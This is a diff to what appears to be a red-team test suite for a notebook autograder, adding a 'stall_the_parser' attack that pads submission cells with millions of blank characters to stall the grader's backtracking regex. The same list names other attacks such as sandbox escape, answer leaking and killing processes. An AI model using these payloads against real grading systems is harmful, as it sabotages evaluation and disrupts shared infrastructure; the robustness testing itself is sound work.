@@ -22,6 +22,8 @@ class Attack:
     name: str
     base: str                   # "stubs" or "reference": the other answer cells
     cells: dict = field(default_factory=dict)
+    untag: tuple = ()           # answer cells that lose their grading metadata
+    extra: tuple = ()           # sources of code cells added at the end, without metadata
 
 
 def _prelude(targets: dict) -> str:
@@ -246,6 +248,14 @@ for pid in [os.getppid(), 1, -1, 2] + list(range(2, 400)):
     return Attack("kill_everything", "reference", {"sgd": code + _reference_sgd()})
 
 
+def stall_the_parser(targets: dict) -> Attack:
+    """Finding 4: before any sandbox, the trusted grader looked for an answer cell that lost its
+    metadata with a backtracking regex; cells of blank lines made it quadratic and stalled the class."""
+    padding = "\n" * 1_500_000 + " " * 500_000
+    return Attack("stall_the_parser", "reference", untag=("softmax",),
+                  extra=(padding + "def  softmax(X):\n    pass\n", padding + "class softmax_:\n    pass\n"))
+
+
 def _reference_softmax() -> str:
     return ("\n\ndef softmax(X):\n    X_exp = torch.exp(X - X.max(dim=1, keepdim=True).values)\n"
             "    return X_exp / X_exp.sum(1, keepdim=True)\n")
@@ -261,4 +271,5 @@ def _reference_sgd() -> str:
             "            param -= lr * param.grad / batch_size\n            param.grad.zero_()\n")
 
 
-ATTACKS = [escape_and_write, leak_answers, fill_memory, forged_hello, reach_sockets, amplify_output, kill_everything]
+ATTACKS = [escape_and_write, leak_answers, fill_memory, forged_hello, reach_sockets, amplify_output, kill_everything,
+           stall_the_parser]
